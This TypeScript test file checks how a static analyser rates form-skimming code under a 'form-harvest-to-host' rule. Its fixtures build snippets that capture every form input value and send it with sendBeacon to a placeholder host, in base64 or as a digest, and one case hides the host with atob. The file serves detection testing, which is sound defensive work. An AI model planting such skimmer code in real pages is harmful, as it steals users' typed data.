import assert from 'node:assert/strict';
import { analyse } from '../../flow/analyse.ts';

const harvest = (made: string, host = '"https://x.example/t"'): string =>
  `document.addEventListener('change', async function (e) { var v = e.target.value; navigator.sendBeacon(${host}, JSON.stringify({ v: ${made} })) })`;
const digest = `await crypto.subtle.digest('SHA-256', new TextEncoder().encode(v))`;

const cases: Record<string, [string, string]> = {
  'in clear': [harvest('btoa(v)'), 'high'],
  'as a digest, which is of no use to a thief': [harvest(digest), 'low'],
  'as a digest to a host that is hidden': [harvest(digest, 'atob("aHR0cHM6Ly94LmV4YW1wbGUvdA==")'), 'high'],
};

describe('every input', () => {
  for (const [name, [text, expected]] of Object.entries(cases))
    it(name, () => {
      const found = analyse(text).evidence.filter(({ rule }) => rule === 'form-harvest-to-host');
      assert.deepEqual(
        [...new Set(found.map(({ severity }) => severity))],
        [expected],
        JSON.stringify(found),
      );
    });
});
